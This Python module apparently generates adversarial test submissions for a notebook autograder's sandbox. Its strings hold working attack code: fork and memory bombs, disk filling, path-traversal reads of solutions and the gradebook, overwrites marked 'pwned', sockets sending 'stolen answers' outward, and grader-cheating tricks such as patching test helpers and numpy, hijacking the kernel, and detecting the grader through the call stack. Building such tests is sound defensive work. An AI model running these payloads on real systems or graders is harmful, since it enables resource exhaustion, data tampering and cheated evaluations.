"""Fault and attack submissions for chapter 1, built from the course's own notebooks.

Each builder returns a real notebook file (or, for the malformed cases, a real file that is
not one) that the tests give to the real grader.  They start from what a student actually
hands in: the *released* exercise with the answers filled in from the instructor's solution
(``### BEGIN/END SOLUTION`` markers dropped), then break or cheat in one way.

Run ``python tests/submissions/make_submissions.py OUT_DIR [COURSE_DIR]`` to write them all
out for inspection (COURSE_DIR is the course the path-based attacks aim at).
"""
from __future__ import annotations

import copy
import json
import sys
from pathlib import Path
from typing import Callable

import nbformat

ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENT = "01_rnn_by_hand"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"


def _gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(nb, grade_id: str) -> int:
    (i,) = [i for i, c in enumerate(nb.cells) if _gid(c) == grade_id]
    return i


def answered(root: Path = ROOT) -> nbformat.NotebookNode:
    """The released exercise with every answer cell filled in from the solution."""
    release = nbformat.read(root / "exercises" / ASSIGNMENT / NOTEBOOK, as_version=4)
    solution = nbformat.read(root / "solutions" / ASSIGNMENT / NOTEBOOK, as_version=4)
    answers = {_gid(c): c.source for c in solution.cells
               if c.get("metadata", {}).get("nbgrader", {}).get("solution")}
    for cell in release.cells:
        if _gid(cell) in answers:
            lines = [ln for ln in answers[_gid(cell)].splitlines()
                     if ln.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION")]
            cell.source = "\n".join(lines)
    return release


def blank(root: Path = ROOT) -> nbformat.NotebookNode:
    return nbformat.read(root / "exercises" / ASSIGNMENT / NOTEBOOK, as_version=4)


def set_answer(nb, grade_id: str, source: str):
    nb.cells[_index(nb, grade_id)].source = source
    return nb


def append_to(nb, grade_id: str, code: str):
    cell = nb.cells[_index(nb, grade_id)]
    cell.source = cell.source + "\n\n" + code
    return nb


def insert_after(nb, grade_id: str, code: str):
    """A new cell of the student's own (no nbgrader metadata) after ``grade_id``."""
    nb.cells.insert(_index(nb, grade_id) + 1, nbformat.v4.new_code_cell(code))
    return nb


WRONG_Q2 = "def as_row(v):\n    return v\n\n\ndef as_column(v):\n    return v\n"


# --- faults -----------------------------------------------------------------------------

def edited_test(root: Path, course: Path):
    """q1 is wrong and its test cell was edited to pass: nbgrader restores the test."""
    nb = set_answer(answered(root), "q1-dot-shape",
                    "def dot_result_shape(a_shape, b_shape):\n    return ()\n")
    nb.cells[_index(nb, "q1-tests")].source = "# tests? what tests?\npass\n"
    return nb


def deleted_test(root: Path, course: Path):
    """q2 is wrong and its test cell was deleted: nbgrader adds it back."""
    nb = set_answer(answered(root), "q2-row-column", WRONG_Q2)
    del nb.cells[_index(nb, "q2-tests")]
    return nb


def split_duplicated(root: Path, course: Path):
    """Answer cells split in two and a test cell duplicated: still full marks."""
    nb = answered(root)
    i = _index(nb, "q4-rnn-forward")
    nb.cells.insert(i, nbformat.v4.new_code_cell("def _step(x_t, h, *w):\n"
                                                 "    return rnn_cell(x_t, h, *w)[1]\n"))
    dup = copy.deepcopy(nb.cells[_index(nb, "q1-tests")])
    dup["id"] = "q1-tests-copy"
    nb.cells.insert(_index(nb, "q1-tests") + 1, dup)
    dup_answer = copy.deepcopy(nb.cells[_index(nb, "q2-row-column")])
    dup_answer["id"] = "q2-answer-copy"
    nb.cells.insert(_index(nb, "q2-tests"), dup_answer)
    return nb


def infinite_loop(root: Path, course: Path):
    """A top-level loop (interrupted, grading goes on) and a loop inside q2's answer (q2: 0)."""
    nb = insert_after(answered(root), "setup", "while True:\n    pass\n")
    return set_answer(nb, "q2-row-column",
                      "def as_row(v):\n    while True:\n        pass\n\n\n"
                      "def as_column(v):\n    while True:\n        pass\n")


def uninterruptible(root: Path, course: Path):
    """A loop that ignores the interrupt: the kernel is killed, restarted, cells replayed."""
    return insert_after(answered(root), "q3-tests",
                        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                        "while True:\n    pass\n")


def memory_bomb(root: Path, course: Path):
    """One huge allocation (MemoryError) and q5's answer eating memory until it fails."""
    nb = insert_after(answered(root), "setup", "hog = bytearray(64 * 2**30)\n")
    return set_answer(nb, "q5-linear",
                      "def rnn_forward_linear(X, h0, W_state, W_input, b_cell, W_output, b_output):\n"
                      "    eaten = []\n    while True:\n        eaten.append(bytearray(2**26))\n")


def fork_bomb(root: Path, course: Path):
    """Every child forks again; the process limit stops it, the kernel and the batch go on."""
    return insert_after(answered(root), "q1-tests", (
        "import os, time\n"
        "children = 0\n"
        "try:\n"
        "    while True:\n"
        "        if os.fork() == 0:\n"
        "            while True:\n"
        "                try:\n"
        "                    os.fork()\n"
        "                except OSError:\n"
        "                    time.sleep(0.5)\n"
        "        children += 1\n"
        "except OSError as exc:\n"
        "    print('fork refused after', children, 'children:', exc)\n"))


def crash(root: Path, course: Path):
    """q2's answer crashes the kernel (SIGSEGV) inside the test; a later cell calls os._exit."""
    nb = set_answer(answered(root), "q2-row-column",
                    "import os, signal\n\n\ndef as_row(v):\n"
                    "    os.kill(os.getpid(), signal.SIGSEGV)\n\n\n"
                    "def as_column(v):\n    os._exit(3)\n")
    return insert_after(nb, "q3-tests", "import os\nos._exit(1)\n")


def big_output(root: Path, course: Path):
    """Megabytes of output."""
    return insert_after(answered(root), "setup",
                        "for i in range(120_000):\n    print('spam' * 40, i)\n")


# --- attacks ----------------------------------------------------------------------------

def read_solutions(root: Path, course: Path):
    """q1: tries the course's solutions and gradebook by path; q3: runs the reference's source."""
    nb = append_to(answered(root), "q1-dot-shape", (
        "import os, glob\n"
        "for path in [" + repr(str(course / "solutions" / ASSIGNMENT / NOTEBOOK)) + ",\n"
        "             '../../../solutions/" + ASSIGNMENT + "/" + NOTEBOOK + "',\n"
        "             " + repr(str(course / "gradebook.db")) + "]:\n"
        "    try:\n        open(path).read()\n        print('READ', path)\n"
        "    except OSError as exc:\n        print('no', path, type(exc).__name__)\n"
        "here = os.getcwd()\n"
        "while here != '/':\n"
        "    print(here, sorted(os.listdir(here))[:5])\n"
        "    here = os.path.dirname(here)\n"))
    return set_answer(nb, "q3-rnn-cell", (
        "import grader, os\n"
        "_src = open(os.path.join(os.path.dirname(grader.__file__), 'reference', 'rnn_by_hand.py')).read()\n"
        "_ns = {}\nexec(_src, _ns)\n\n\n"
        "def rnn_cell(x_t, h_prev, W_state, W_input, b_cell):\n"
        "    return _ns['rnn_step'](x_t, h_prev, W_state, W_input, b_cell)\n"))


def write_course(root: Path, course: Path):
    """Tries to overwrite the gradebook and another student's submission, and to plant files."""
    return insert_after(answered(root), "setup", (
        "import os\n"
        "targets = [" + repr(str(course / "gradebook.db")) + ",\n"
        "           " + repr(str(course / "submitted" / "complete" / ASSIGNMENT / NOTEBOOK)) + ",\n"
        "           " + repr(str(course / "planted.txt")) + ",\n"
        "           '../../gradebook.db', '../complete/" + NOTEBOOK + "', '/tmp/../planted.txt']\n"
        "for t in targets:\n"
        "    try:\n"
        "        with open(t, 'w') as f:\n            f.write('pwned')\n"
        "        print('WROTE', t)\n"
        "    except OSError as exc:\n"
        "        print('refused', t, type(exc).__name__)\n"
        "open('my-own-file.txt', 'w').write('allowed')\n"))


def network(root: Path, course: Path, port: int = 0):
    """Opens connections: to a listener the test runs on the host's loopback, and outward."""
    return insert_after(answered(root), "setup", (
        "import socket\n"
        f"for addr in [('127.0.0.1', {port}), ('1.1.1.1', 80), ('pypi.org', 443)]:\n"
        "    try:\n"
        "        s = socket.create_connection(addr, timeout=3)\n"
        "        s.sendall(b'stolen answers')\n"
        "        print('CONNECTED', addr)\n"
        "    except OSError as exc:\n"
        "        print('no network to', addr, type(exc).__name__)\n"))


def patch_helpers(root: Path, course: Path):
    """Wrong answers everywhere, and the test helpers replaced so that every test passes."""
    nb = blank(root)
    nb = set_answer(nb, "q1-dot-shape", (
        "import grader.checks\n"
        "grader.checks._isclose = lambda a, b, **kw: __import__('numpy').ones(\n"
        "    __import__('numpy').broadcast(a, b).shape, bool)\n"
        "check_equal = lambda *a, **k: None\n"
        "check_raises = lambda *a, **k: None\n\n\n"
        "def dot_result_shape(a_shape, b_shape):\n    return ()\n"))
    nb = set_answer(nb, "q2-row-column", WRONG_Q2)
    return nb


def patch_numpy(root: Path, course: Path):
    """q3 forgets the tanh and replaces np.tanh so that the reference agrees; q2's answer
    patches numpy's comparison functions from inside the function the test calls."""
    nb = answered(root)
    nb = set_answer(nb, "q3-rnn-cell", (
        "np.tanh = lambda x, *a, **k: np.asarray(x, dtype=float)\n\n\n"
        "def rnn_cell(x_t, h_prev, W_state, W_input, b_cell):\n"
        "    if np.ndim(W_input) == 1:\n        term = x_t * W_input\n"
        "    else:\n        term = np.dot(x_t, W_input)\n"
        "    a = np.dot(h_prev, W_state) + term + b_cell\n"
        "    return a, a\n"))
    return set_answer(nb, "q2-row-column", (
        "def as_row(v):\n"
        "    np.isclose = lambda *a, **k: np.array(True)\n"
        "    np.allclose = lambda *a, **k: True\n"
        "    return np.asarray(v).reshape(1, -1)\n\n\n"
        "def as_column(v):\n    return np.asarray(v).reshape(-1, 1)\n"))


def import_reference(root: Path, course: Path):
    """q3 imports the reference outright; q4 reaches it through sys.modules, q6 through
    importlib with an assembled name (no import statement the scan can see)."""
    nb = answered(root)
    nb = set_answer(nb, "q3-rnn-cell", (
        "from grader.reference.rnn_by_hand import rnn_step\n\n\n"
        "def rnn_cell(x_t, h_prev, W_state, W_input, b_cell):\n"
        "    return rnn_step(x_t, h_prev, W_state, W_input, b_cell)\n"))
    nb = set_answer(nb, "q4-rnn-forward", (
        "import sys\n\n\n"
        "def rnn_forward(X, h0, W_state, W_input, b_cell, W_output, b_output):\n"
        "    mod = sys.modules['grader.' + 'refer' + 'ence.rnn_by_hand']\n"
        "    out = mod.rnn_forward(X, h0, W_state=W_state, W_input=W_input, b_cell=b_cell,\n"
        "                          W_output=W_output, b_output=b_output)\n"
        "    return out['states'], out['outputs']\n"))
    return set_answer(nb, "q6-batch", (
        "import importlib\n\n\n"
        "def rnn_forward_batch(X, h0, W_state, W_input, b_cell, W_output, b_output):\n"
        "    mod = importlib.import_module('grader.' + 'refer' + 'ence.rnn_by_hand')\n"
        "    out = mod.rnn_forward_batch(X, h0, W_state=W_state, W_input=W_input,\n"
        "                                b_cell=b_cell, W_output=W_output, b_output=b_output)\n"
        "    return out['states'], out['outputs']\n"))


def tamper_kernel(root: Path, course: Path):
    """Wrong answers, and IPython made to run `pass` instead of every later cell."""
    nb = blank(root)
    return insert_after(nb, "setup", (
        "ip = get_ipython()\n"
        "_orig = ip.run_cell_async\n\n\n"
        "async def _fake(raw_cell, *args, **kwargs):\n"
        "    kwargs['transformed_cell'] = 'pass\\n'\n"
        "    return await _orig('pass', *args, **kwargs)\n\n\n"
        "ip.run_cell_async = _fake\n"))


def fake_partial_credit(root: Path, course: Path):
    """q1 wrong, but it displays a number first: nbgrader would read it as partial credit."""
    return set_answer(answered(root), "q1-dot-shape", (
        "def dot_result_shape(a_shape, b_shape):\n"
        "    get_ipython().displayhook(2)\n"
        "    return ()\n"))


def swap_code(root: Path, course: Path):
    """Wrong answers, and the code (``__code__``, ``__defaults__``) of the test helpers and of
    numpy's comparisons swapped for code that always passes, from inside an ``exec``."""
    nb = set_answer(blank(root), "q1-dot-shape", (
        "exec(\"import grader.checks as g, numpy\\n\"\n"
        "     \"def _ok(*a, **k):\\n    return None\\n\"\n"
        "     \"for f in (g.check_close, g.check_equal, g.check_raises, g.check_shape):\\n\"\n"
        "     \"    f.__code__ = _ok.__code__\\n\"\n"
        "     \"g.check_close.__defaults__ = None\\n\"\n"
        "     \"try:\\n    numpy.isclose.__code__ = (lambda a, b, **k: numpy.ones(numpy.shape(a), bool)).__code__\\n\"\n"
        "     \"except AttributeError:\\n    numpy.isclose = lambda a, b, **k: numpy.ones(numpy.shape(a), bool)\\n\")\n\n\n"
        "def dot_result_shape(a_shape, b_shape):\n    return ()\n"))
    return set_answer(nb, "q2-row-column", WRONG_Q2)


def collisions(root: Path, course: Path):
    """Correct answers in other styles (einsum, explicit loops) whose helpers are named like
    the grader's own (``_step``, ``_rnn_step``, ``ref``, ``rng``, ``hidden_rng``, ``assign``)."""
    nb = answered(root)
    nb = set_answer(nb, "q3-rnn-cell", (
        "ref = 'mine'\nrng = None\nhidden_rng = assign = _tl = None\n\n\n"
        "def _step(x_t, W_input):\n"
        "    return x_t * W_input if np.ndim(W_input) == 1 else np.einsum('...d,dh->...h', x_t, W_input)\n\n\n"
        "def _rnn_step(h_prev, W_state):\n    return np.einsum('...h,hk->...k', h_prev, W_state)\n\n\n"
        "def rnn_cell(x_t, h_prev, W_state, W_input, b_cell):\n"
        "    before = _rnn_step(h_prev, W_state) + _step(x_t, W_input) + b_cell\n"
        "    return before, np.tanh(before)\n"))
    return set_answer(nb, "q6-batch", (
        "def rnn_forward_batch(X, h0, W_state, W_input, b_cell, W_output, b_output):\n"
        "    N, T, _ = X.shape\n"
        "    states = np.zeros((N, T, W_state.shape[0]))\n"
        "    h = np.array(h0, dtype=float)\n"
        "    for t in range(T):\n"
        "        _, h = rnn_cell(X[:, t, :], h, W_state, W_input, b_cell)\n"
        "        states[:, t] = h\n"
        "    return states, np.einsum('nth,ho->nto', states, W_output) + b_output\n"))


def forge_replies(root: Path, course: Path):
    """Blank answers, and the kernel's call handler replaced: it answers every call of the
    grader with made-up values, a reply nested 100,000 levels deep, or 60 MB of text."""
    return insert_after(blank(root), "setup", (
        "import sys, json\n"
        "_n = [0]\n\n\n"
        "def _serve(text, ns):\n"
        "    _n[0] += 1\n"
        "    if _n[0] % 3 == 0:\n"
        "        return '[' * 100000 + ']' * 100000\n"
        "    if _n[0] % 3 == 1:\n"
        "        return json.dumps({'value': {'t': [{'a': ['<f8', [2], 'AAAAAAAA8D8AAAAAAADwPw==']}] * 2}})\n"
        "    return 'x' * 60_000_000\n\n\n"
        "sys.modules['__rnns_probe__'].serve = _serve\n"))


def control_flow(root: Path, course: Path):
    """Answers that raise StopIteration or SystemExit, hoping to end a test's loop early."""
    nb = set_answer(answered(root), "q1-dot-shape", (
        "def dot_result_shape(a_shape, b_shape):\n    raise StopIteration\n"))
    return set_answer(nb, "q2-row-column", (
        "def as_row(v):\n    raise SystemExit(0)\n\n\n"
        "def as_column(v):\n    raise KeyboardInterrupt\n"))


def steer_inputs(root: Path, course: Path):
    """Correct while the notebook runs; when the grader calls it (found by walking the stack
    up to the probe module), it zeroes its argument in place and returns zeros, hoping the
    hidden test computes its expected value afterwards from the same, now zeroed, array."""
    return set_answer(answered(root), "q2-row-column", (
        "import sys\n\n\n"
        "def _grader_is_calling():\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        if frame.f_globals.get('__name__') == '__rnns_probe__':\n"
        "            return True\n"
        "        frame = frame.f_back\n"
        "    return False\n\n\n"
        "def as_row(v):\n"
        "    if _grader_is_calling():\n"
        "        v[...] = 0\n"
        "        return np.zeros((1, len(v)))\n"
        "    return np.asarray(v).reshape(1, -1)\n\n\n"
        "def as_column(v):\n"
        "    if _grader_is_calling():\n"
        "        v[...] = 0\n"
        "        return np.zeros((len(v), 1))\n"
        "    return np.asarray(v).reshape(-1, 1)\n"))


def fill_disk(root: Path, course: Path):
    """Writes until the disk is full, in its working folder and in /tmp; then answers."""
    return insert_after(answered(root), "setup", (
        "import os\n"
        "for i, where in enumerate(['.', '/tmp', '.', '/tmp']):\n"
        "    try:\n"
        "        with open(os.path.join(where, f'fill{i}'), 'wb') as f:\n"
        "            for _ in range(400):\n"
        "                f.write(b'0' * 2**20)\n"
        "    except OSError as exc:\n"
        "        print('stopped', where, type(exc).__name__)\n"))


NOTEBOOK_BUILDERS: dict[str, Callable] = {
    "complete": lambda root, course: answered(root),
    "blank": lambda root, course: blank(root),
    "edited-test": edited_test,
    "deleted-test": deleted_test,
    "split-duplicated": split_duplicated,
    "infinite-loop": infinite_loop,
    "uninterruptible": uninterruptible,
    "memory-bomb": memory_bomb,
    "fork-bomb": fork_bomb,
    "crash": crash,
    "big-output": big_output,
    "read-solutions": read_solutions,
    "write-course": write_course,
    "network": network,
    "patch-helpers": patch_helpers,
    "patch-numpy": patch_numpy,
    "import-reference": import_reference,
    "tamper-kernel": tamper_kernel,
    "fake-partial-credit": fake_partial_credit,
    "swap-code": swap_code,
    "collisions": collisions,
    "forge-replies": forge_replies,
    "control-flow": control_flow,
    "steer-inputs": steer_inputs,
    "fill-disk": fill_disk,
}


def other_assignment(root: Path) -> nbformat.NotebookNode:
    """A notebook of another assignment: another chapter's exercise if there is one, else
    chapter 1's with foreign grade ids."""
    others = sorted(p for p in (root / "exercises").glob("*/*.ipynb") if p.parent.name != ASSIGNMENT)
    if others:
        return nbformat.read(others[0], as_version=4)
    nb = blank(root)
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader")
        if meta and "grade_id" in meta:
            meta["grade_id"] = "other-" + meta["grade_id"]
    return nb


def write_all(out: Path, course: Path, root: Path = ROOT, port: int = 0) -> dict[str, Path]:
    """Write every submission as ``out/<student>/<file>``; returns student -> file."""
    files: dict[str, Path] = {}
    for student, build in NOTEBOOK_BUILDERS.items():
        nb = build(root, course) if student != "network" else network(root, course, port)
        path = out / student / NOTEBOOK
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, path)
        files[student] = path
    raw = {
        "malformed-json": (NOTEBOOK, (root / "exercises" / ASSIGNMENT / NOTEBOOK)
                           .read_text(encoding="utf-8")[:5000]),
        "not-a-notebook": (NOTEBOOK, json.dumps({"answers": [1, 2, 3]})),
        "binary-file": (NOTEBOOK, None),
        "wrong-name": ("02_something_else.ipynb", nbformat.writes(answered(root))),
        "wrong-assignment": (NOTEBOOK, nbformat.writes(other_assignment(root))),
    }
    for student, (name, text) in raw.items():
        path = out / student / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if text is None:
            path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
        else:
            path.write_text(text, encoding="utf-8")
        files[student] = path
    return files


if __name__ == "__main__":
    if len(sys.argv) < 2:
        sys.exit(__doc__)
    target = Path(sys.argv[1])
    course_dir = Path(sys.argv[2]) if len(sys.argv) > 2 else ROOT
    for s, p in write_all(target, course_dir).items():
        print(f"{s:20} {p}")
